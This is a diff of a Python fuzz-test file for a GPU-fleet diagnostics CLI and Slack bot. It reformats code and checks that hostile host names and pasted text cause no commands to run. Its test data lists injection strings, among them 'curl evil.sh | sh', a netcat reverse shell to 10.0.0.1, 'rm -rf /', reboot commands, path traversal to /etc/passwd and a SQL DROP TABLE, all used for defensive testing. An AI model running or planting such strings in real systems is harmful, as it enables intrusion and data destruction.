@@ -15,9 +15,9 @@ import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
-from collectors.inventory import build
-from pitstop.authz import Policy
-from pitstop.errors import PitstopError
+from pitstop.app.authz import Policy
+from pitstop.collectors.inventory import build
+from pitstop.core.errors import PitstopError
 from tests.bot.conftest import ALLOW_ALL, payload
 from tests.bot.interactions import as_form, slash_command
 from tests.security.lab_audit import AuditWatch
@@ -26,20 +26,75 @@ from tests.security.scale import examples
 
 HOST = "h100-sxm5-healthy"  # a shipped lab scenario
 HOSTILE_HOSTS = (
-    "gpu1; rm -rf /", "$(reboot)", "`reboot`", "gpu1`id`", "gpu1\nreboot", "gpu1 && curl evil.sh | sh",
-    "gpu1|nc -e /bin/sh 10.0.0.1 4444", "-oProxyCommand=sh", "--help", "../../etc/passwd", "gpu1>/etc/motd",
-    "gpu[1-10000]", "gpu[0-99999999]", "gpu[1-100],node[1-100],x[1-900]", "gpu[1-", "gpu[5-1]", "gpu[a-b]",
-    "gpu‐1", "gрu1", "ｇｐｕ１", "gpu1\u200b", "gpu1\u202e", "gpu1\x00", "@", "@nogroup", "*", "", " ", "[]",
-    "a" * 10_000, "gpu1," * 2_000, f"{HOST};reboot", f"{HOST}$(reboot)", f"{HOST}\nreboot",
+    "gpu1; rm -rf /",
+    "$(reboot)",
+    "`reboot`",
+    "gpu1`id`",
+    "gpu1\nreboot",
+    "gpu1 && curl evil.sh | sh",
+    "gpu1|nc -e /bin/sh 10.0.0.1 4444",
+    "-oProxyCommand=sh",
+    "--help",
+    "../../etc/passwd",
+    "gpu1>/etc/motd",
+    "gpu[1-10000]",
+    "gpu[0-99999999]",
+    "gpu[1-100],node[1-100],x[1-900]",
+    "gpu[1-",
+    "gpu[5-1]",
+    "gpu[a-b]",
+    "gpu‐1",
+    "gрu1",
+    "ｇｐｕ１",
+    "gpu1\u200b",
+    "gpu1\u202e",
+    "gpu1\x00",
+    "@",
+    "@nogroup",
+    "*",
+    "",
+    " ",
+    "[]",
+    "a" * 10_000,
+    "gpu1," * 2_000,
+    f"{HOST};reboot",
+    f"{HOST}$(reboot)",
+    f"{HOST}\nreboot",
 )
-INJECTIONS = ("$(reboot)", "`rm -rf /`", "; shutdown -h now", "| nc -e /bin/sh 10.0.0.1 4444",
-              "'; DROP TABLE incidents; --", "\n/sbin/reboot\n", "${IFS}reboot", "dmesg -C", "nvidia-smi -r")
+INJECTIONS = (
+    "$(reboot)",
+    "`rm -rf /`",
+    "; shutdown -h now",
+    "| nc -e /bin/sh 10.0.0.1 4444",
+    "'; DROP TABLE incidents; --",
+    "\n/sbin/reboot\n",
+    "${IFS}reboot",
+    "dmesg -C",
+    "nvidia-smi -r",
+)
 PASTES = st.one_of(
     st.text(max_size=3_000),
     st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=500),
-    st.lists(st.sampled_from(["NCCL WARN", "Xid 79", "CUDA error", "显存不足", "训练卡住", "\x00", "\u202e",
-                              "```", "<script>", "&amp;", "0000:3b:00.0", "xoxb-1234567890-abcdefghij",
-                              *INJECTIONS]), max_size=40).map(" ".join),
+    st.lists(
+        st.sampled_from(
+            [
+                "NCCL WARN",
+                "Xid 79",
+                "CUDA error",
+                "显存不足",
+                "训练卡住",
+                "\x00",
+                "\u202e",
+                "```",
+                "<script>",
+                "&amp;",
+                "0000:3b:00.0",
+                "xoxb-1234567890-abcdefghij",
+                *INJECTIONS,
+            ]
+        ),
+        max_size=40,
+    ).map(" ".join),
     st.binary(max_size=2_000).map(lambda b: b.decode("utf-8", errors="replace")),
 )
 SUPPRESS = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large]
@@ -56,12 +111,14 @@ def assert_clear(text: str) -> None:
 
 # --- pasted text -> kb.ask ---
 
+
 @pytest.fixture(scope="module")
 def kb(kb_path: Path, embedder: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
-    from kb.service import KnowledgeBase
+    from pitstop.kb.service import KnowledgeBase
     from tests.bot.conftest import copy_kb
 
-    return KnowledgeBase.open(copy_kb(kb_path, tmp_path_factory.mktemp("fuzz") / "kb.db"), embedder=embedder)
+    path = copy_kb(kb_path, tmp_path_factory.mktemp("fuzz") / "pitstop.db")
+    return KnowledgeBase.open(path, embedder=embedder)
 
 
 @settings(max_examples=examples(40), deadline=None, database=None, suppress_health_check=SUPPRESS)
@@ -79,15 +136,26 @@ def test_kb_ask_answers_or_refuses_clearly(kb: Any, text: str) -> None:
 
 # --- host arguments -> inventory + policy (no network) ---
 
-INVENTORY = build({"ssh_config": False, "groups": {"a100": {}},
-                   "hosts": {"gpu[1-16]": {"groups": ["a100"]}, HOST: {"address": "127.0.0.2"}}})
+INVENTORY = build(
+    {
+        "ssh_config": False,
+        "groups": {"a100": {}},
+        "hosts": {"gpu[1-16]": {"groups": ["a100"]}, HOST: {"address": "127.0.0.2"}},
+    }
+)
 OPEN = Policy.from_data(ALLOW_ALL)
 
 
 @settings(max_examples=examples(300), deadline=None, database=None)
-@given(expr=st.one_of(st.sampled_from(HOSTILE_HOSTS), st.text(max_size=80),
-                      st.lists(st.sampled_from([*HOSTILE_HOSTS[:12], "gpu1", "gpu[2-3]", "@a100", ",", "["]),
-                               max_size=6).map("".join)))
+@given(
+    expr=st.one_of(
+        st.sampled_from(HOSTILE_HOSTS),
+        st.text(max_size=80),
+        st.lists(
+            st.sampled_from([*HOSTILE_HOSTS[:12], "gpu1", "gpu[2-3]", "@a100", ",", "["]), max_size=6
+        ).map("".join),
+    )
+)
 def test_host_arguments_resolve_to_inventory_hosts_or_a_clear_refusal(expr: str) -> None:
     try:
         hosts = INVENTORY.select(expr)
@@ -105,13 +173,25 @@ def test_host_arguments_resolve_to_inventory_hosts_or_a_clear_refusal(expr: str)
 def test_cli_diagnose_with_hostile_hosts_runs_nothing(lab_fleet, tmp_path, capsys, expr) -> None:
     import getpass
 
-    from pitstop.cli import main
+    from pitstop.cli.main import main
 
     watch = AuditWatch(lab_fleet.audit_log)
-    (tmp_path / "policy.yaml").write_text(json.dumps(
-        {"rules": [{"users": [getpass.getuser()], "hosts": ["*"]}], "rate_limit": {"burst": 0}}))
-    code = main(["diagnose", "--inventory", str(lab_fleet.inventory), "--policy",
-                 str(tmp_path / "policy.yaml"), "--db", str(tmp_path / "cli.db"), "--", expr])
+    (tmp_path / "policy.yaml").write_text(
+        json.dumps({"rules": [{"users": [getpass.getuser()], "hosts": ["*"]}], "rate_limit": {"burst": 0}})
+    )
+    code = main(
+        [
+            "diagnose",
+            "--inventory",
+            str(lab_fleet.inventory),
+            "--policy",
+            str(tmp_path / "policy.yaml"),
+            "--db",
+            str(tmp_path / "cli.db"),
+            "--",
+            expr,
+        ]
+    )
     err = capsys.readouterr().err
     assert code in (2, 3, 4) and err.startswith("pitstop: ")
     assert_clear(err)
@@ -119,6 +199,7 @@ def test_cli_diagnose_with_hostile_hosts_runs_nothing(lab_fleet, tmp_path, capsy
 
 
 # --- slash-command text and Slack payloads -> the real Bolt HTTP app ---
+
 
 @pytest.fixture(scope="module")
 def lab_watch(lab_fleet) -> AuditWatch:
@@ -147,8 +228,10 @@ def lab_bot(serve_app, lab_inventory) -> Bot:
 def _settle(bot: Bot, expect_answer: bool) -> None:
     """Wait for the listener's background work: Bolt answers the HTTP request before it is queued."""
     with bot.recorder.lock:
-        bot.recorder.lock.wait_for(lambda: any(c.method != "auth.test" for c in bot.recorder.calls),
-                                   timeout=30 if expect_answer else 0.25)
+        bot.recorder.lock.wait_for(
+            lambda: any(c.method != "auth.test" for c in bot.recorder.calls),
+            timeout=30 if expect_answer else 0.25,
+        )
     bot.idle()
 
 
@@ -159,11 +242,13 @@ def _said(bot) -> list[str]:
 
 @pytest.mark.lab
 @settings(max_examples=examples(30), deadline=None, database=None, suppress_health_check=SUPPRESS)
-@given(text=st.one_of(
-    st.sampled_from(HOSTILE_HOSTS).map(lambda h: h.replace("\n", " ")),
-    st.tuples(st.sampled_from(HOSTILE_HOSTS), st.sampled_from(INJECTIONS)).map(" ".join),
-    st.text(max_size=200),
-))
+@given(
+    text=st.one_of(
+        st.sampled_from(HOSTILE_HOSTS).map(lambda h: h.replace("\n", " ")),
+        st.tuples(st.sampled_from(HOSTILE_HOSTS), st.sampled_from(INJECTIONS)).map(" ".join),
+        st.text(max_size=200),
+    )
+)
 def test_slash_command_text_never_breaks_the_bot(lab_bot, lab_watch, shared_dir, text: str) -> None:
     lab_bot.recorder.clear()
     form = slash_command(shared_dir, text, response_url=lab_bot.recorder.url + "/respond/1")
@@ -180,12 +265,18 @@ def test_slash_command_text_never_breaks_the_bot(lab_bot, lab_watch, shared_dir,
 
 @pytest.mark.lab
 @pytest.mark.parametrize("injection", INJECTIONS)
-def test_injections_in_the_error_text_run_only_catalog_commands(lab_bot, lab_watch, shared_dir,
-                                                                injection: str) -> None:
+def test_injections_in_the_error_text_run_only_catalog_commands(
+    lab_bot, lab_watch, shared_dir, injection: str
+) -> None:
     watch = AuditWatch(lab_watch.log)
     text = f"{HOST} NCCL WARN Cuda failure 'unknown error' {injection}"
-    assert lab_bot.send(slash_command(shared_dir, text, response_url=lab_bot.recorder.url + "/respond/1"),
-                        content_type=FORM)[0] == 200
+    assert (
+        lab_bot.send(
+            slash_command(shared_dir, text, response_url=lab_bot.recorder.url + "/respond/1"),
+            content_type=FORM,
+        )[0]
+        == 200
+    )
     _settle(lab_bot, expect_answer=True)
     ran = watch.new_commands()
     checkable = any(p.checks for p in lab_bot.services.kb.all())
@@ -196,13 +287,52 @@ def test_injections_in_the_error_text_run_only_catalog_commands(lab_bot, lab_wat
 
 def _mutations() -> st.SearchStrategy[tuple[str, list[str], Any]]:
     """(payload file, key path to change, new value or the sentinel `DELETE`)."""
-    files = ["bolt-app-mention.json", "bolt-message-channel-rich-text.json", "bolt-block-actions-button.json",
-             "bolt-view-submission.json", "bolt-message-changed.json", "bolt-message-from-bot-bot_id.json"]
-    keys = ["type", "event", "text", "user", "channel", "ts", "thread_ts", "event_id", "actions", "view",
-            "callback_id", "private_metadata", "state", "values", "team_id", "api_app_id", "blocks",
-            "subtype", "team", "container", "message", "action_id", "value", "trigger_id", "bot_id"]
-    values = st.one_of(st.just("DELETE"), st.none(), st.integers(), st.booleans(), st.just([]), st.just({}),
-                       st.text(max_size=50), st.just("x" * 5_000), st.just([None, {}, 1]))
+    files = [
+        "bolt-app-mention.json",
+        "bolt-message-channel-rich-text.json",
+        "bolt-block-actions-button.json",
+        "bolt-view-submission.json",
+        "bolt-message-changed.json",
+        "bolt-message-from-bot-bot_id.json",
+    ]
+    keys = [
+        "type",
+        "event",
+        "text",
+        "user",
+        "channel",
+        "ts",
+        "thread_ts",
+        "event_id",
+        "actions",
+        "view",
+        "callback_id",
+        "private_metadata",
+        "state",
+        "values",
+        "team_id",
+        "api_app_id",
+        "blocks",
+        "subtype",
+        "team",
+        "container",
+        "message",
+        "action_id",
+        "value",
+        "trigger_id",
+        "bot_id",
+    ]
+    values = st.one_of(
+        st.just("DELETE"),
+        st.none(),
+        st.integers(),
+        st.booleans(),
+        st.just([]),
+        st.just({}),
+        st.text(max_size=50),
+        st.just("x" * 5_000),
+        st.just([None, {}, 1]),
+    )
     return st.tuples(st.sampled_from(files), st.lists(st.sampled_from(keys), min_size=1, max_size=3), values)
 
 
